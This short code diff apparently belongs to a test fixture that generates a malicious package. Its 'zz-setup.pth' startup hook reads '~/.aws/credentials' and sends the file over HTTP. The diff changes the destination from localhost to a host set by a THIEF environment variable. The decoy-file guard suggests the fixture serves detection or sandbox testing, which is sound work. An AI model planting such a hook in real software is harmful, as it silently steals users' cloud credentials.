@@ -11,7 +11,8 @@ def CONTENT():
     deed = (
         "import os, sys, urllib.request as r; h = os.environ.get('HOME', ''); "
         "os.path.exists(h + '/.decoy-home') and "
-        "r.urlopen('http://127.0.0.1:8443/', open(h + '/.aws/credentials', 'rb').read())\n"
+        "r.urlopen('http://' + os.environ.get('THIEF', '127.0.0.1') + ':8443/', "
+        "open(h + '/.aws/credentials', 'rb').read())\n"
     )
     return {"zz-setup.pth": deed, "evil_pth/__init__.py": ""}
 
